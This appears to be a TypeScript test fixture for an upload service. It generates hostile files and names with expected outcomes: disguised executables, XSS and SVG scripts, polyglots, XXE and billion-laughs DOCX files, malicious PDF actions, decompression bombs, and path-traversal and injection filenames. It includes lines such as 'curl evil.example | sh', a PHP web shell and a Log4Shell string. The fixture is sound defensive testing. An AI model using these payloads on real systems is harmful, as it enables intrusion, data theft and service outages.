import { deflateSync, gzipSync } from 'node:zlib'
import { docx, png, text, zeros, zip } from '../kit/bad-files.ts'
import { body, pdf, type Sent } from './bases.ts'

/** A file as somebody hostile sends it. `refused`: it must be. `harmless`: it is refused, or kept and given out so that nothing in it runs. */
export interface BadFile extends Sent {
  readonly verdict: 'refused' | 'harmless'
}

const CANARY = 'fetch("/canary")'
const bytes = (hex: string, more = 300): Buffer => Buffer.concat([Buffer.from(hex, 'hex'), zeros(more)])

/** What is none of the accepted kinds, by its first bytes. */
const FOREIGN: Readonly<Record<string, Uint8Array>> = {
  elf: Buffer.concat([text('\x7fELF\x02\x01\x01'), zeros(300)]),
  windows: Buffer.concat([text('MZ\x90\0'), zeros(300)]),
  macho: bytes('cffaedfe07000001'),
  javaClass: bytes('cafebabe00000037'),
  wasm: bytes('0061736d01000000'),
  zip: zip([{ name: 'run.sh', content: text('rm -rf /') }]),
  jar: zip([{ name: 'META-INF/MANIFEST.MF', content: text('Main-Class: A') }]),
  gzip: gzipSync(zeros(1 << 20)),
  bzip2: Buffer.concat([text('BZh91AY&SY'), zeros(100)]),
  xz: bytes('fd377a585a0000'),
  sevenZip: bytes('377abcaf271c0004'),
  rar: bytes('526172211a070100'),
  sqlite: Buffer.concat([text('SQLite format 3\0'), zeros(300)]),
  flash: Buffer.concat([text('CWS\x0a'), zeros(300)]),
  photoshop: Buffer.concat([text('8BPS\0\x01'), zeros(300)]),
  font: bytes('774f463200010000'),
  oldOffice: bytes('d0cf11e0a1b11ae1', 600),
  icon: bytes('00000100010010100000'),
  bitmap: Buffer.concat([text('BM'), zeros(300)]),
  realMedia: Buffer.concat([text('.RMF\0\0\0'), zeros(300)]),
  midi: Buffer.concat([text('MThd\0\0\0\x06'), zeros(100)]),
  postscript: text('%!PS-Adobe-3.0\n(run) file run\n'),
  rtf: text('{\\rtf1\\ansi{\\object\\objocx}}'),
  noise: Buffer.from(Array.from({ length: 3000 }, (_, n) => (n * 7919 + (n >> 3) * 31) & 255)),
}
/** Some reader here knows these, or they are plain words. */
const READ: ReadonlySet<string> = new Set(['zip', 'jar', 'postscript', 'rtf', 'gzip'])
const CLAIMS = ['png', 'jpg', 'pdf', 'ogg'] as const

/** Foreign things under the names of accepted ones. */
const disguised = (): readonly BadFile[] =>
  Object.entries(FOREIGN).flatMap(([kind, content]) =>
    CLAIMS.map((claim) => ({
      name: `${kind}.${claim}`,
      bytes: content,
      verdict: READ.has(kind) ? ('harmless' as const) : ('refused' as const),
    })),
  )

/** What a browser could run, under its own name and under others. */
const SCRIPTS: readonly string[] = [
  `<!DOCTYPE html><html><body><script>${CANARY}</script></body></html>`,
  `<html><body onload='${CANARY}'>`,
  `<script>${CANARY}</script>`,
  `   \n\n<HTML><SCRIPT SRC=//evil.example/x.js></SCRIPT></HTML>`,
  `<!-- ${'x'.repeat(2000)} --><script>${CANARY}</script>`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${CANARY}</script></html>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${CANARY}'/>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script href="//evil.example/x.js"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:1"/></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin='${CANARY}' attributeName="x"/></svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<?xml-stylesheet href="javascript:1"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:1">x</maction></math>`,
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>1</script></xsl:template></xsl:stylesheet>`,
  `#!/bin/sh\ncurl evil.example | sh\n`,
  `<?php system($_GET["c"]); ?>`,
  `<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>`,
  `=cmd|' /C calc'!A0\n+1+1\n@SUM(1)\n`,
  `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<script>1</script>\n--x--`,
  `[InternetShortcut]\nURL=javascript:1\n`,
]
const SCRIPT_NAMES = ['a.html', 'a.svg', 'a.txt', 'a.png'] as const
const scripts = (): readonly BadFile[] =>
  SCRIPTS.flatMap((words) =>
    SCRIPT_NAMES.map((name) => ({
      name,
      bytes: text(words),
      verdict: 'harmless' as const,
    })),
  )

/** Two things at once: what an accepted reader sees, and what another would run. */
function polyglots(base: (name: string) => Uint8Array): readonly BadFile[] {
  const html = text(`<html><script>${CANARY}</script></html>`)
  const archive = zip([{ name: 'a.js', content: text(CANARY) }])
  const after = (name: string, tail: Uint8Array, as = name): BadFile => ({
    name: as,
    bytes: Buffer.concat([base(name), tail]),
    verdict: 'harmless',
  })
  const before = (name: string, head: Uint8Array): BadFile => ({
    name,
    bytes: Buffer.concat([head, base(name)]),
    verdict: 'harmless',
  })
  return [
    ...['plain.png', 'plain.jpg', 'plain.gif', 'plain.webp', 'plain.tiff'].flatMap((name) => [
      after(name, html),
      after(name, html, `${name}.html`),
      after(name, archive),
      before(name, html),
    ]),
    ...['sine.wav', 'song.mp3', 'note.ogg', 'film.mp4', 'paper.pdf'].flatMap((name) => [
      after(name, html),
      after(name, archive, `${name}.jar`),
      before(name, html),
    ]),
    {
      name: 'gifar.gif',
      bytes: Buffer.concat([text(`GIF89a=0;/*`), html, text(`*/${CANARY}`)]),
      verdict: 'harmless',
    },
    { name: 'bitmap.js', bytes: text(`BM=1;${CANARY}//${'x'.repeat(100)}`), verdict: 'harmless' },
    { name: 'pdf.html', bytes: Buffer.concat([html, pdf('')]), verdict: 'harmless' },
  ]
}

/** Documents that reach out, run, or grow when they are read. */
function documents(): readonly BadFile[] {
  const word = (content: string, ...more: Parameters<typeof docx>): BadFile => ({
    name: 'letter.docx',
    bytes: docx({ name: 'word/document.xml', content: text(content) }, ...more),
    verdict: 'harmless',
  })
  const entity = (declared: string) => body('&x;', `<!DOCTYPE d [${declared}]>`)
  const lol = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const open = (action: string, ...more: string[]): BadFile => ({
    name: 'paper.pdf',
    bytes: pdf('', action, more),
    verdict: 'harmless',
  })
  const bomb = deflateSync(zeros(64 << 20), { level: 9 }).toString('latin1')
  return [
    word(entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    word(entity('<!ENTITY x SYSTEM "http://127.0.0.1:1/canary">')),
    word(body('&l9;', `<!DOCTYPE d [<!ENTITY l0 "lol">${lol}]>`)),
    word(body('<![CDATA[<script>1</script>]]>')),
    word('<w:document'),
    word('not xml at all'),
    word(`<a>${'<b>'.repeat(100_000)}`),
    word(body('x'), { name: '../../../../etc/cron.d/x', content: text('* * * * * root id') }),
    word(body('x'), { name: '/etc/passwd', content: text('x') }),
    word(body('x'), { name: 'word/vbaProject.bin', content: zeros(500) }),
    word(body('x'), {
      name: 'word/_rels/document.xml.rels',
      content: text(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:1/canary" TargetMode="External"/></Relationships>',
      ),
    }),
    {
      name: 'bomb.docx',
      bytes: docx({ name: 'word/document.xml', content: zeros(30 << 20) }),
      verdict: 'refused',
    },
    {
      name: 'twice.docx',
      bytes: docx(
        { name: 'word/document.xml', content: text(body('one')) },
        { name: 'word/document.xml', content: text(body('two')) },
      ),
      verdict: 'harmless',
    },
    open('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    open('/OpenAction << /S /Launch /F (calc.exe) >>'),
    open('/OpenAction << /S /URI /URI (http://127.0.0.1:1/canary) >>'),
    open('/AA << /WC << /S /JavaScript /JS (1) >> >>'),
    open('/AcroForm << /XFA 6 0 R >>', '<< /Length 9 >>\nstream\n<script/>\nendstream'),
    open('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', '<< /Type /Filespec /F (a.exe) >>'),
    open('', `<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n${bomb}\nendstream`),
    {
      name: 'loop.pdf',
      bytes: text(pdf('').toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]')),
      verdict: 'harmless',
    },
    {
      name: 'many.pdf',
      bytes: text(pdf('').toString('latin1').replace('/Count 1', '/Count 999999999')),
      verdict: 'harmless',
    },
    {
      name: 'huge.pdf',
      bytes: text(pdf('').toString('latin1').replace('0 0 200 200', '0 0 1e9 1e9')),
      verdict: 'harmless',
    },
    { name: 'noxref.pdf', bytes: text('%PDF-1.4\nstartxref\n999999999\n%%EOF'), verdict: 'refused' },
    { name: 'nothing.pdf', bytes: text('%PDF-'), verdict: 'refused' },
  ]
}

/** Headers that promise far more than there is. */
function bombs(): readonly BadFile[] {
  const gif = (width: number, height: number) => {
    const head = Buffer.from('474946383961000000000000000000002c0000000000000000000002024401003b', 'hex')
    head.writeUInt16LE(width, 6)
    head.writeUInt16LE(height, 8)
    return head
  }
  const wave = (field: number, value: number) => {
    const head = Buffer.concat([
      text('RIFF'),
      zeros(4),
      text('WAVEfmt '),
      zeros(20),
      text('data'),
      zeros(400),
    ])
    head.writeUInt32LE(16, 16)
    head.writeUInt16LE(1, 20)
    head.writeUInt16LE(1, 22)
    head.writeUInt32LE(8000, 24)
    head.writeUInt32LE(8000, 28)
    head.writeUInt16LE(1, 32)
    head.writeUInt16LE(8, 34)
    head.writeUInt32LE(value >>> 0, field)
    return head
  }
  const box = (size: number, type: string, more = 40) => {
    const head = Buffer.concat([zeros(4), text(type), zeros(more)])
    head.writeUInt32BE(size >>> 0, 0)
    return head
  }
  const mp4 = Buffer.concat([box(20, 'ftyp', 12), zeros(0)])
  mp4.write('isom', 8)
  const refused = (name: string, content: Uint8Array): BadFile => ({
    name,
    bytes: content,
    verdict: 'refused',
  })
  const harmless = (name: string, content: Uint8Array): BadFile => ({
    name,
    bytes: content,
    verdict: 'harmless',
  })
  return [
    refused('wide.png', png(0x7fffffff, 1, zeros(100))),
    refused('tall.png', png(1, 0x7fffffff, zeros(100))),
    refused('square.png', png(65_000, 65_000, zeros(1 << 16))),
    refused('none.png', png(0, 0, zeros(10))),
    refused('huge.gif', gif(65_535, 65_535)),
    harmless('none.gif', gif(0, 0)),
    harmless('size.wav', wave(40, 0xffffff00)),
    harmless('rate.wav', wave(24, 0xffffffff)),
    harmless('bytes.wav', wave(28, 0)),
    harmless('format.wav', wave(16, 0xfffffff0)),
    refused('box.mp4', Buffer.concat([mp4, box(0xffffffff, 'moov')])),
    refused('zero.mp4', Buffer.concat([mp4, box(0, 'moov'), box(0, 'trak')])),
    refused('deep.mp4', Buffer.concat([mp4, ...Array.from({ length: 5000 }, () => box(48, 'moov'))])),
    refused(
      'lying.webm',
      Buffer.from('1a45dfa3a34286810142f7810142f2810442f381084282847765626d18538067ffffffffffffffff', 'hex'),
    ),
    refused('lying.ogg', Buffer.concat([text('OggS'), Buffer.alloc(22, 255), Buffer.alloc(300, 255)])),
    refused('lying.flac', Buffer.concat([text('fLaC'), Buffer.from('00ffffff', 'hex'), zeros(200)])),
    refused(
      'lying.webp',
      Buffer.concat([text('RIFF'), Buffer.from('ffffffff', 'hex'), text('WEBPVP8X'), Buffer.alloc(40, 255)]),
    ),
    refused('lying.jpg', Buffer.concat([Buffer.from('ffd8ffe0ffff', 'hex'), zeros(100)])),
    refused('lying.tiff', Buffer.concat([text('II*\0'), Buffer.alloc(60, 255)])),
    refused('tagged.mp3', Buffer.concat([text('ID3\x03\0\0'), Buffer.from('7f7f7f7f', 'hex'), zeros(300)])),
    harmless('bomb.txt.gz', gzipSync(zeros(100 << 20))),
    refused('bomb.png', gzipSync(zeros(20 << 20))),
  ]
}

/** Whole files cut at many places, and with a few of their bytes turned. */
function damaged(bases: readonly Sent[]): readonly BadFile[] {
  const cuts = [1, 4, 13, 64, 0.25, 0.5, 0.75, 0.97]
  return bases.flatMap(({ name, bytes: whole }, n) => [
    ...cuts
      .map((cut) => (cut < 1 ? Math.floor(whole.length * cut) : cut))
      .filter((end) => end < whole.length)
      .map((end) => ({ name, bytes: whole.subarray(0, end), verdict: 'harmless' as const })),
    ...[1, 2].map((seed) => {
      const turned = Buffer.from(whole)
      for (let i = 0; i < 20; i++) {
        const at = 12 + ((i * 2_654_435_761 + seed * 40_503 + n * 977) % Math.max(1, turned.length - 12))
        turned[at] = (turned[at] ?? 0) ^ (1 + ((i * 37 + seed) & 127))
      }
      return { name, bytes: turned, verdict: 'harmless' as const }
    }),
  ])
}

/** All of them. `bases` are whole files, by name. */
export function badFiles(bases: readonly Sent[]): readonly BadFile[] {
  const base = (name: string): Uint8Array => {
    const found = bases.find((one) => one.name === name)
    if (!found) throw new Error(`There is no ${name} to begin with`)
    return found.bytes
  }
  const cut = [
    'plain.png',
    'plain.jpg',
    'plain.gif',
    'plain.webp',
    'lzw.tif',
    'plain.avif',
    'sine.wav',
    'sine.flac',
  ]
  const more = [
    'note.ogg',
    'music.ogg',
    'song.mp3',
    'memo.m4a',
    'browser.webm',
    'film.mp4',
    'film.webm',
    'paper.pdf',
    'letter.docx',
  ]
  return [
    ...disguised(),
    ...scripts(),
    ...polyglots(base),
    ...documents(),
    ...bombs(),
    ...damaged([...cut, ...more].map((name) => ({ name, bytes: base(name) }))),
  ]
}

/** Names that lead elsewhere, hide, or turn the reading direction. */
export const BAD_NAMES: readonly string[] = [
  ...[
    '../../etc/passwd',
    '..\\..\\boot.ini',
    '/etc/shadow',
    'C:\\windows\\win.ini',
    '....//....//x',
    '%2e%2e%2fx',
  ],
  ...[
    '..',
    '.',
    '...',
    ' ',
    '~',
    '.htaccess',
    '.env',
    '-rf',
    'CON',
    'nul.txt',
    'aux',
    'x:y',
    'a|b',
    'a*b?',
    '"a"',
  ],
  ...[
    'photo\u202Egnp.exe',
    'a\u2066b\u2069.txt',
    '\u200Bx.txt',
    '\uFEFF.txt',
    'a\u0000.txt',
    'a\rb\n.txt',
    'a\u0085b',
    '\u2028x',
  ],
  ...[
    'x\r\nset-cookie: a=b',
    'x"; filename="y',
    "x'; drop table city.file; --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
  ],
  ...[
    '<img src=x onerror=alert(1)>.txt',
    '<script>alert(1)</script>.txt',
    'javascript:alert(1)',
    'data:text/html,x',
  ],
  ...[
    '\u0430dmin.txt',
    'a\u0301\u0301\u0301.txt',
    `${'я'.repeat(5000)}.txt`,
    `${'../'.repeat(500)}x`,
    `x.${'a'.repeat(3000)}`,
  ],
  ...[
    '🏴‍☠️'.repeat(300),
    '\u{1F600}'.repeat(101),
    '\uD800.txt',
    'ﷺ'.repeat(200),
    'a/b/c/',
    '\\\\server\\share\\x',
  ],
]
